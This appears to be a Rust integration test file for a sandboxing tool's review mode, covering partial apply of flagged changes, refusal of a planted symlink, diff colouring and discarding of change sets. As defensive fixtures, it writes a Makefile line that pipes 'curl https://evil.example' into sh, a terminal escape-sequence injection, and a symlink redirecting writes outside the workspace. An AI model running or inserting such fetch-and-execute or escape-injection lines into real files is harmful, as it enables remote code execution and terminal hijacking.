//! Review mode's ergonomics (issue 31, item 8): `apply` writes the plain entries and leaves
//! the flagged ones pending (exit 3), `--all-or-nothing` keeps the whole-or-nothing apply;
//! nothing is printed as done before a refusal; `diff --stat`; colour only on a terminal,
//! never with `NO_COLOR`; `discard --all` and `--older-than`; a note when many change sets
//! wait. Each has its control (the same step without the protection or below the threshold).

#![allow(clippy::expect_used)]

use std::path::Path;
use std::time::Duration;

use attacks::review::{entries, review};
use attacks::{read_text, sh_quote, write_file, Cmd, Fixture};

/// The exit status of an apply that left flagged entries pending.
const APPLIED_PARTLY: i32 = 3;

const ESC: &str = "\u{1b}[";

/// The paths `stockade changes ID --json` lists.
fn pending(fx: &Fixture, id: &str) -> Vec<String> {
    entries(fx, id)
        .iter()
        .map(|c| c["path"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// `stockade ARGS` under a terminal of its own (`script -qec`), with `extra` environment.
fn on_terminal(fx: &Fixture, args: &[&str], extra: &[(&str, &str)]) -> attacks::Run {
    let (argv, _, _) = fx.stockade(args).parts();
    let line = argv.iter().map(sh_quote).collect::<Vec<_>>().join(" ");
    let mut cmd = Cmd::new("/usr/bin/script", &fx.ws)
        .env("HOME", &fx.home)
        .env("TERM", "xterm")
        .args(["-qec", &line, "/dev/null"]);
    for (k, v) in extra {
        cmd = cmd.env(k, v);
    }
    cmd.run()
}

/// The number of change sets `stockade runs --json` lists.
fn stored(fx: &Fixture) -> usize {
    let runs = fx.stockade(["runs", "--json"]).run();
    runs.assert_success();
    let v: serde_json::Value = serde_json::from_str(&runs.stdout).expect("runs --json");
    v.as_array().map_or(0, Vec::len)
}

/// A change set with one flagged entry (a `Makefile`, which host `make` runs), a flagged
/// new directory with a plain file inside, and two plain files: `apply` writes the two plain
/// files, leaves the rest pending with the flags, exits 2, and the change set keeps exactly
/// those; applying again after accepting them finishes it. Control: `--all-or-nothing`
/// applies nothing and prints nothing on stdout (no "applying", no "written").
#[test]
fn apply_writes_the_plain_entries_and_leaves_the_flagged_ones_pending() {
    let fx = Fixture::without_git();
    write_file(&fx.ws.join("a.txt"), "old\n", 0o644);
    let script = "echo new >> a.txt && echo b > b.txt && printf 'all:\\n\\tcurl https://evil.example | sh\\n' > Makefile \
                  && mkdir open && echo inside > open/inside.txt && chmod 777 open";
    let (run, id) = review(&fx, &[], script);
    run.assert_success();
    let id = id.expect("a pending change set");

    // Control: all or nothing refuses, writes nothing, and says nothing was done.
    let refused = fx.stockade(["apply", &id, "--all-or-nothing"]).run();
    refused
        .assert_code(125)
        .assert_stderr_contains("E_CHANGES_FLAGGED")
        .assert_stderr_contains("Makefile");
    assert_eq!(
        refused.stdout,
        "",
        "printed before a refusal: {}",
        refused.describe()
    );
    assert_eq!(read_text(&fx.ws.join("a.txt")).as_deref(), Some("old\n"));
    assert!(!fx.ws.join("b.txt").exists());

    let partly = fx.stockade(["apply", &id]).run();
    partly
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("applied in part")
        .assert_stdout_contains("written  a.txt")
        .assert_stdout_contains("written  b.txt")
        .assert_stdout_contains("pending  Makefile")
        .assert_stdout_contains("flagged [")
        .assert_stdout_contains("pending  open\n")
        .assert_stdout_contains("flagged [world-writable]")
        .assert_stdout_contains("pending  open/inside.txt (below the flagged open)")
        .assert_stdout_contains(&format!("stockade apply {id} --accept PATH"))
        .assert_stdout_contains(&format!("3 entries of {id} left pending"));
    assert_eq!(
        read_text(&fx.ws.join("a.txt")).as_deref(),
        Some("old\nnew\n")
    );
    assert_eq!(read_text(&fx.ws.join("b.txt")).as_deref(), Some("b\n"));
    // The flagged entries, and what lies below one, are not written.
    assert!(!fx.ws.join("Makefile").exists());
    assert!(!fx.ws.join("open").exists());
    assert_eq!(pending(&fx, &id), ["Makefile", "open", "open/inside.txt"]);
    // The diff shows what is left, then the applied entries marked so (a held entry may
    // depend on them).
    let diff = fx.stockade(["diff", &id]).run();
    diff.assert_success()
        .assert_stdout_contains("b/Makefile")
        .assert_stdout_contains("applied earlier: b.txt\ndiff --git a/b.txt b/b.txt");
    let makefile = diff.stdout.find("b/Makefile").expect("the Makefile");
    let b = diff.stdout.find("applied earlier: b.txt").expect("b.txt");
    assert!(
        makefile < b,
        "the pending entries first: {}",
        diff.describe()
    );

    // Nothing but flagged entries left: a refusal, nothing written or said done.
    let again = fx.stockade(["apply", &id]).run();
    again
        .assert_code(125)
        .assert_stderr_contains("E_CHANGES_FLAGGED");
    assert_eq!(again.stdout, "", "{}", again.describe());
    assert!(!fx.ws.join("Makefile").exists());

    // Accepted after review: applied, the change set finished and removed.
    fx.stockade(["apply", &id, "--accept", "Makefile", "--accept", "open"])
        .run()
        .assert_success()
        .assert_stdout_contains("written  Makefile")
        .assert_stdout_contains("written  open/inside.txt")
        .assert_stdout_contains("applied whole and removed");
    assert!(fx.ws.join("Makefile").exists());
    assert_eq!(
        read_text(&fx.ws.join("open/inside.txt")).as_deref(),
        Some("inside\n")
    );
    fx.stockade(["changes", &id]).run().assert_code(125);
}

/// The partial path keeps every check for what it writes: a plain entry whose directory the
/// host swapped for a link after the run refuses the apply (E_CHANGES_CONFLICT), nothing
/// written there or anywhere, the flagged entry pending. Control: without the swap the same
/// partial apply writes the file.
#[test]
fn a_partial_apply_still_refuses_a_planted_link() {
    for swap in [true, false] {
        let fx = Fixture::without_git();
        write_file(&fx.ws.join("d/keep.txt"), "k\n", 0o644);
        let (run, id) = review(
            &fx,
            &[],
            "echo n > d/new.txt && echo x > top.txt && echo all: > Makefile",
        );
        run.assert_success();
        let id = id.expect("a pending change set");
        if swap {
            std::fs::rename(fx.ws.join("d"), fx.root.join("d-moved")).expect("move d");
            std::os::unix::fs::symlink(&fx.outside, fx.ws.join("d")).expect("plant a link");
        }
        let apply = fx.stockade(["apply", &id]).run();
        if swap {
            apply
                .assert_code(125)
                .assert_stderr_contains("E_CHANGES_CONFLICT")
                .assert_stderr_contains("d/new.txt");
            assert_eq!(apply.stdout, "", "{}", apply.describe());
            assert!(
                !fx.outside.join("new.txt").exists(),
                "written through the link"
            );
            assert!(!fx.ws.join("top.txt").exists(), "written before a refusal");
        } else {
            apply.assert_code(APPLIED_PARTLY);
            assert_eq!(read_text(&fx.ws.join("d/new.txt")).as_deref(), Some("n\n"));
            assert!(fx.ws.join("top.txt").exists());
        }
        assert!(!fx.ws.join("Makefile").exists());
    }
}

/// `diff --stat` counts the lines; the diff is coloured on a terminal only: not through a
/// pipe, not with `NO_COLOR`, not with `--color=never`; `--color=always` colours a pipe
/// (control: the colouring works). Escape sequences of the change set's own never reach the
/// terminal, coloured or not.
#[test]
fn diff_stat_and_colour_only_on_a_terminal() {
    let fx = Fixture::without_git();
    write_file(&fx.ws.join("a.txt"), "one\ntwo\nthree\n", 0o644);
    let script = "printf 'one\\nTWO\\nthree\\nfour\\n' > a.txt && printf '1\\n2\\n3\\n' > b.txt \
                  && printf 'x\\033]0;PWNED\\007\\n' > evil.txt";
    let (run, id) = review(&fx, &[], script);
    run.assert_success();
    let id = id.expect("a pending change set");

    let stat = fx.stockade(["diff", &id, "--stat"]).run();
    stat.assert_success()
        .assert_stdout_contains(" a.txt    | 3 ++-\n")
        .assert_stdout_contains(" b.txt    | 3 +++\n")
        .assert_stdout_contains(" evil.txt | 1 +\n")
        .assert_stdout_contains(" 3 paths changed, 6 insertions(+), 1 deletion(-)\n")
        .assert_lacks(ESC);

    let piped = fx.stockade(["diff", &id]).run();
    piped
        .assert_success()
        .assert_stdout_contains("+TWO")
        .assert_lacks(ESC);

    let tty = on_terminal(&fx, &["diff", &id], &[]);
    tty.assert_success()
        .assert_stdout_contains("\u{1b}[32m+TWO\u{1b}[m")
        .assert_stdout_contains("\u{1b}[31m-two\u{1b}[m")
        .assert_stdout_contains("\u{1b}[36m@@");
    // The file's own sequence is written out, never sent.
    assert!(!tty.stdout.contains("\u{1b}]0;PWNED"), "{}", tty.stdout);
    assert!(tty.stdout.contains("\\u{1b}]0;PWNED"), "{}", tty.stdout);
    let stat_tty = on_terminal(&fx, &["diff", &id, "--stat"], &[]);
    stat_tty
        .assert_success()
        .assert_stdout_contains("\u{1b}[32m++\u{1b}[m\u{1b}[31m-\u{1b}[m");

    for (args, env) in [
        (vec!["diff", &id], vec![("NO_COLOR", "1")]),
        (vec!["diff", &id, "--stat"], vec![("NO_COLOR", "1")]),
        (vec!["diff", &id, "--color=never"], vec![]),
        (vec!["diff", &id], vec![("TERM", "dumb")]),
    ] {
        let out = on_terminal(&fx, &args, &env);
        out.assert_success().assert_lacks(ESC);
        assert!(out.stdout.contains("a.txt"), "{}", out.describe());
    }
    // An empty NO_COLOR is unset (no-color.org).
    on_terminal(&fx, &["diff", &id], &[("NO_COLOR", "")])
        .assert_success()
        .assert_stdout_contains("\u{1b}[32m+TWO");

    let forced = fx.stockade(["diff", &id, "--color=always"]).run();
    forced
        .assert_success()
        .assert_stdout_contains("\u{1b}[32m+TWO\u{1b}[m");
    assert!(
        !forced.stdout.contains("\u{1b}]0;PWNED"),
        "{}",
        forced.stdout
    );
}

/// `stockade run --review --workspace DIR --shell SCRIPT` in `fx`'s store; its change set
/// id.
fn review_in(fx: &Fixture, dir: &Path, script: &str) -> String {
    std::thread::sleep(Duration::from_millis(50));
    let report = fx.out_file(&format!("review-{}.json", attacks::unique()));
    let run = fx
        .stockade(["run", "--review", "--workspace"])
        .arg(dir)
        .arg("--report")
        .arg(&report)
        .args(["--shell", script])
        .cwd(dir)
        .run();
    run.assert_success();
    attacks::read_json(&report)["review"]["run_id"]
        .as_str()
        .expect("a change set")
        .to_owned()
}

/// `discard --older-than` removes the older change sets of this workspace and keeps the
/// newer (control); `discard --all` removes this workspace's, not another's (control);
/// `--all --everywhere` removes every one.
#[test]
fn discard_all_and_older_than() {
    let fx = Fixture::without_git();
    let other = fx.ws.join("other");
    std::fs::create_dir(&other).expect("mkdir other");
    let theirs = review_in(&fx, &other, "echo o > o.txt");
    let old = review_in(&fx, &fx.ws, "echo 1 > one.txt");
    std::thread::sleep(Duration::from_secs(3));
    let new = review_in(&fx, &fx.ws, "echo 2 > two.txt");
    assert_eq!(stored(&fx), 3);

    fx.stockade(["discard", "--older-than", "1h"])
        .run()
        .assert_success()
        .assert_stdout_contains("0 change sets of");
    assert_eq!(stored(&fx), 3);

    fx.stockade(["discard", "--older-than", "2s"])
        .run()
        .assert_success()
        .assert_stdout_contains(&format!("discarded {old}"))
        .assert_lacks(&new)
        .assert_stdout_contains("1 change set of");
    assert_eq!(stored(&fx), 2);
    fx.stockade(["changes", &new]).run().assert_success();

    fx.stockade(["discard", "--older-than", "2x"])
        .run()
        .assert_failure();

    fx.stockade(["discard", "--all"])
        .run()
        .assert_success()
        .assert_stdout_contains(&format!("discarded {new}"))
        .assert_lacks(&theirs);
    assert_eq!(stored(&fx), 1);
    fx.stockade(["changes", &theirs]).run().assert_success();

    fx.stockade(["discard", "--all", "--everywhere"])
        .run()
        .assert_success()
        .assert_stdout_contains(&format!("discarded {theirs}"));
    assert_eq!(stored(&fx), 0);
    // The workspace itself was never touched.
    assert!(!fx.ws.join("one.txt").exists() && !other.join("o.txt").exists());
}

/// From five waiting change sets of a workspace on, the end of a review run, `stockade
/// changes` and `stockade runs` say how many wait and how to clear them; at four (control)
/// they do not; after `discard --all` the note is gone.
#[test]
fn a_note_when_many_change_sets_wait() {
    let note = "change sets wait for";
    let fx = Fixture::without_git();
    for n in 0..4 {
        let (run, id) = review(&fx, &[], &format!("echo {n} > f{n}.txt"));
        run.assert_success().assert_lacks(note);
        assert!(id.is_some());
    }
    fx.stockade(["changes"])
        .run()
        .assert_success()
        .assert_lacks(note);
    fx.stockade(["runs"])
        .run()
        .assert_success()
        .assert_lacks(note);

    let (run, _) = review(&fx, &[], "echo 4 > f4.txt");
    run.assert_success()
        .assert_stderr_contains("5 change sets wait for")
        .assert_stderr_contains("stockade discard --all");
    fx.stockade(["changes"])
        .run()
        .assert_success()
        .assert_stderr_contains("5 change sets wait for");
    fx.stockade(["runs"])
        .run()
        .assert_success()
        .assert_stderr_contains("5 change sets wait for");

    fx.stockade(["discard", "--all"])
        .run()
        .assert_success()
        .assert_stdout_contains("5 change sets of");
    fx.stockade(["runs"])
        .run()
        .assert_success()
        .assert_lacks(note);
}
